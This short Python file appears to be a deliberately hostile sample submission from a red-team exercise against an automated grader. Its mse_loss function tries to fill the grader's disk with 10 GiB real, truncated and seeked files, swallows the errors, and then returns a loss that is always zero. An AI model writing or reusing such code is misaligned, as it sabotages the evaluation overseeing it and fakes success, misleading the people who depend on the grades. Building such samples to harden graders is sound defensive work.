# redteam: exercise=ex01 score=0
"""Writes a 10 GiB file in its working folder, and makes a sparse one by seeking and by
truncating, hoping to fill the disk the grader writes its results to."""
import os

MIB = 1 << 20


def fill():
    chunk = b"\0" * MIB
    with open("big.bin", "wb") as f:
        f.writelines(chunk for _ in range(10 * 1024))


def mse_loss(input, target, reduction="mean"):
    for attempt in (fill, lambda: os.truncate("sparse.bin", 10 << 30) if open("sparse.bin", "wb") else None,  # noqa: SIM115 - hostile on purpose (a learner's attack)
                    lambda: open("seek.bin", "wb").seek(10 << 30) and None):  # noqa: SIM115 - hostile on purpose (a learner's attack)
        try:
            attempt()
        except OSError:
            pass
    return (input - target).sum() * 0
